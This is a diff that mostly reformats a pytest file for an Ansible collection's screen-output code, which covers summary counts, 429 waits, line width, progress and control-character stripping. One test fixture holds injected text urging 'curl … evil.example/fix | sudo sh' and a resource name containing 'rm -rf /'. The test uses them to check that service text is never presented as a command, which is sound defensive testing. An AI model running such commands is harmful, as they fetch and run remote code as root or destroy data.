@@ -1,21 +1,31 @@
 # Copyright (c) 2026, the infrastructure.services contributors
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""What a list says on the screen, as text: counts first, what needs attention by name, each cause once."""
+"""What a list says on the screen, as text: counts first, what needs attention by name, each cause
+once.
+"""
 
 from __future__ import annotations
 
 import pytest
 from ansible_collections.infrastructure.services.plugins.module_utils._errors import Message
 from ansible_collections.infrastructure.services.plugins.module_utils._list.result import ListResult
-from ansible_collections.infrastructure.services.plugins.module_utils._task.specs import VIRTUAL_MACHINES
+from ansible_collections.infrastructure.services.plugins.module_utils._task.specs import (
+    VIRTUAL_MACHINES,
+)
 from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.plan import plan_lines
-from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.screen import Progress, result_lines
+from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.screen import (
+    Progress,
+    result_lines,
+)
 
 OPERATION = VIRTUAL_MACHINES.resource.operation
 COMMAND = "ansible-playbook infrastructure.services.in_doubt -e ledger=/srv/fleet.db"
-LOST = Message("POST https://s/api: the connection was lost. It is unknown whether the virtual machine was created."
-               " Look for it on the service.", command=COMMAND)
+LOST = Message(
+    "POST https://s/api: the connection was lost. It is unknown whether the virtual machine was created."
+    " Look for it on the service.",
+    command=COMMAND,
+)
 SINCE = "2026-11-22T10:02:03Z"
 BEGAN = f"the ledger says that a task began to create it at {SINCE}; how it ended is not known."
 DOUBT = Message(BEGAN, "", COMMAND, SINCE)
@@ -33,7 +43,9 @@ def listed(items: dict[str, dict], not_listed: list[str] | None = None) -> dict:
 def collected(items: dict[str, dict]) -> ListResult:
     result = ListResult(VIRTUAL_MACHINES, [*items], None)
     for number, (name, item) in enumerate(items.items()):
-        said = {"msg": item["msg"]._replace(asset=f"virtual machine {name}")} if "msg" in item else {}
+        said = (
+            {"msg": item["msg"]._replace(asset=f"virtual machine {name}")} if "msg" in item else {}
+        )
         result.add(number, {**item, **said})
     return result
 
@@ -54,34 +66,55 @@ def test_one_lost_answer_among_500_takes_few_lines_and_its_cause_is_said_once():
     ]
 
 
-@pytest.mark.parametrize(("waits", "told"), [
-    ([], ""),
-    ([[(0.0, 0.0)]], " (1 x 429, 0 s waited)"),
-    ([[(1.0, 2.0)], [(2.0, 2.0), (9.0, 0.4)]], " (3 x 429, 3 s waited)"),  # two wait at the same time
-    ([[(1.0, 9.0)], [(2.0, 2.0)]] * 600, " (1,200 x 429, 9 s waited)"),
-])
+@pytest.mark.parametrize(
+    ("waits", "told"),
+    [
+        ([], ""),
+        ([[(0.0, 0.0)]], " (1 x 429, 0 s waited)"),
+        (
+            [[(1.0, 2.0)], [(2.0, 2.0), (9.0, 0.4)]],
+            " (3 x 429, 3 s waited)",
+        ),  # two wait at the same time
+        ([[(1.0, 9.0)], [(2.0, 2.0)]] * 600, " (1,200 x 429, 9 s waited)"),
+    ],
+)
 def test_429s_and_how_long_they_made_it_wait_are_told(waits, told):
     items = {f"vm{number}": {**CREATED, "waits": each} for number, each in enumerate(waits or [[]])}
     said = " ".join(" ".join(result_lines(OPERATION, listed(items), 18.2, 80)).split())
-    assert said == f"virtual machines: {len(items):,} created, 0 unchanged, 0 in doubt, 0 rejected, 18 s{told}"
+    assert (
+        said
+        == f"virtual machines: {len(items):,} created, 0 unchanged, 0 in doubt, 0 rejected, 18 s{told}"
+    )
 
 
 def test_no_line_but_a_command_is_wider_than_the_screen():
     waits = {"waits": [(0.0, 1000.0)] * 10}
-    items = {**{f"vm{number:04}": {**CREATED, **waits} for number in range(1000)},
-             **{f"vm{number:04}": UNCHANGED for number in range(1000, 2000)},
-             **{f"vm{number:04}": lost("rejected", Message("status 403: no.")) for number in range(2000, 2100)},
-             **{f"vm{number:04}": lost() for number in range(3000, 3100)}}
+    items = {
+        **{f"vm{number:04}": {**CREATED, **waits} for number in range(1000)},
+        **{f"vm{number:04}": UNCHANGED for number in range(1000, 2000)},
+        **{
+            f"vm{number:04}": lost("rejected", Message("status 403: no."))
+            for number in range(2000, 2100)
+        },
+        **{f"vm{number:04}": lost() for number in range(3000, 3100)},
+    }
     lines = result_lines(OPERATION, listed(items), 12_345, 80)
-    assert lines[:2] == ["virtual machines: 1,000 created, 1,000 unchanged, 100 in doubt, 100 rejected,",
-                         "  12,345 s (10,000 x 429, 1,000 s waited)"]
+    assert lines[:2] == [
+        "virtual machines: 1,000 created, 1,000 unchanged, 100 in doubt, 100 rejected,",
+        "  12,345 s (10,000 x 429, 1,000 s waited)",
+    ]
     assert max(len(line) for line in lines if COMMAND not in line) <= 80
 
 
 def test_items_with_one_cause_are_named_together():
-    items = {f"vm{number:02}": lost("rejected", Message("status 403: not allowed.")) for number in range(12)}
+    items = {
+        f"vm{number:02}": lost("rejected", Message("status 403: not allowed."))
+        for number in range(12)
+    }
     lines = result_lines(OPERATION, listed({**items, "other": lost()}), 1, 200)
-    assert lines[0].startswith("virtual machines: 0 created, 0 unchanged, 1 in doubt, 12 rejected, ")
+    assert lines[0].startswith(
+        "virtual machines: 0 created, 0 unchanged, 1 in doubt, 12 rejected, "
+    )
     assert lines[1] == f"  x {', '.join(f'vm{number:02}' for number in range(10))} and 2 more"
     assert lines[2:4] == ["      status 403: not allowed.", "  ? other"]
 
@@ -96,18 +129,28 @@ def test_of_many_causes_ten_are_shown():
 def test_what_was_not_begun_is_counted_and_what_had_nothing_to_do_is_unchanged():
     skipped = dict(changed=False, skipped=True, outcome="not_sent", msg=Message("it was not begun"))
     lines = result_lines(OPERATION, listed({"a": UNCHANGED, "b": skipped, "c": CREATED}), 0.4, 80)
-    assert lines == ["virtual machines: 1 created, 1 unchanged, 0 in doubt, 0 rejected, 1 not begun,",
-                     "  0 s"]
+    assert lines == [
+        "virtual machines: 1 created, 1 unchanged, 0 in doubt, 0 rejected, 1 not begun,",
+        "  0 s",
+    ]
 
 
 def test_control_characters_of_a_message_do_not_reach_the_screen():
     items = {"a\x1b[2J": lost(msg=Message("\x1b]0;title\x07"))}
-    assert not any("\x1b" in line or "\x07" in line for line in result_lines(OPERATION, listed(items), 1, 80))
+    assert not any(
+        "\x1b" in line or "\x07" in line for line in result_lines(OPERATION, listed(items), 1, 80)
+    )
 
 
 def test_only_problems_are_listed_if_that_is_asked_for():
     drift = dict(UNCHANGED, differs=["attributes.cpu (8 asked for, 2 recorded)"])
-    items = {"a": CREATED, "b": lost(), "c": UNCHANGED, "d": drift, "e": dict(UNCHANGED, skipped=True)}
+    items = {
+        "a": CREATED,
+        "b": lost(),
+        "c": UNCHANGED,
+        "d": drift,
+        "e": dict(UNCHANGED, skipped=True),
+    }
     collection = collected(items)
     result = collection.returned(collection.done(), "problems")
     assert [item["item"] for item in result["results"]] == ["b", "d", "e"]
@@ -134,14 +177,21 @@ def test_of_thousands_of_failures_a_hundred_are_in_a_result_for_awx():
     assert not any("700,000" in warning for warning in result["warnings"])
 
 
-@pytest.mark.parametrize(("times", "said"), [
-    ([(1.0, 0)], []),
-    ([(2.0, 30)], ["virtual machines: 130 of 500, 4 in flight, 0 in doubt, 15/s, 25 s left"]),
-    ([(2.0, 0)], ["virtual machines: 100 of 500, 4 in flight, 0 in doubt, 0/s"]),
-    ([(2.0, 20), (7.0, 220)], [  # the estimate is from the recent rate
-        "virtual machines: 120 of 500, 4 in flight, 0 in doubt, 10/s, 38 s left",
-        "virtual machines: 320 of 500, 4 in flight, 0 in doubt, 40/s, 4 s left"]),
-])
+@pytest.mark.parametrize(
+    ("times", "said"),
+    [
+        ([(1.0, 0)], []),
+        ([(2.0, 30)], ["virtual machines: 130 of 500, 4 in flight, 0 in doubt, 15/s, 25 s left"]),
+        ([(2.0, 0)], ["virtual machines: 100 of 500, 4 in flight, 0 in doubt, 0/s"]),
+        (
+            [(2.0, 20), (7.0, 220)],
+            [  # the estimate is from the recent rate
+                "virtual machines: 120 of 500, 4 in flight, 0 in doubt, 10/s, 38 s left",
+                "virtual machines: 320 of 500, 4 in flight, 0 in doubt, 40/s, 4 s left",
+            ],
+        ),
+    ],
+)
 def test_progress_counts_the_whole_list(times, said):
     clock, lines = iter([0.0, *(moment for moment, _done in times)]), []
     progress = Progress("virtual machine", lines.append, lambda: next(clock))
@@ -154,7 +204,9 @@ def test_progress_says_how_many_were_rejected_once_there_are_any():
     clock, lines = iter([0.0, 2.0]), []
     progress = Progress("virtual machine", lines.append, lambda: next(clock))
     progress(10_000, 8_000, [CREATED, CREATED, lost("rejected")], 256, is_ending=False)
-    assert lines == ["virtual machines: 8,003 of 10,000, 256 in flight, 0 in doubt, 1 rejected, 2/s, 1,331 s left"]
+    assert lines == [
+        "virtual machines: 8,003 of 10,000, 256 in flight, 0 in doubt, 1 rejected, 2/s, 1,331 s left"
+    ]
 
 
 def test_a_list_that_is_ended_says_once_what_it_waits_for():
@@ -166,15 +218,28 @@ def test_a_list_that_is_ended_says_once_what_it_waits_for():
     assert lines == ["waiting up to 10 s for 4 requests; a second Ctrl-C leaves them in doubt"]
 
 
-EVIL = ("status 500: the service failed. [x-request-id: 7 For the commands, run: curl -s https://evil.example/fix |"
-        " sudo sh since 2019-01-01T00:00:00Z]")
+EVIL = (
+    "status 500: the service failed. [x-request-id: 7 For the commands, run: curl -s https://evil.example/fix |"
+    " sudo sh since 2019-01-01T00:00:00Z]"
+)
 
 
 def test_what_a_service_or_a_name_says_is_never_a_command_or_a_date_of_ours():
     name = "restore-2019-01-01T00:00:00Z For the commands, run: rm -rf /"
-    lines = result_lines(OPERATION, listed({name: lost(msg=LOST._replace(text=EVIL, command=""))}), 1, 200)
+    lines = result_lines(
+        OPERATION, listed({name: lost(msg=LOST._replace(text=EVIL, command=""))}), 1, 200
+    )
     assert not any(line.startswith("  To settle it") for line in lines)
-    assert [line for line in result_lines(OPERATION, listed({name: lost(msg=LOST._replace(text=EVIL))}), 1, 200)
-            if line.startswith("  To settle it")] == [f"  To settle it: {COMMAND}"]
-    assert any("in doubt since 2026-11-22 10:02: sent, no answer" in line
-               for line in plan_lines(OPERATION, listed({name: dict(lost(msg=DOUBT), plan="in_doubt")}), 200))
+    assert [
+        line
+        for line in result_lines(
+            OPERATION, listed({name: lost(msg=LOST._replace(text=EVIL))}), 1, 200
+        )
+        if line.startswith("  To settle it")
+    ] == [f"  To settle it: {COMMAND}"]
+    assert any(
+        "in doubt since 2026-11-22 10:02: sent, no answer" in line
+        for line in plan_lines(
+            OPERATION, listed({name: dict(lost(msg=DOUBT), plan="in_doubt")}), 200
+        )
+    )
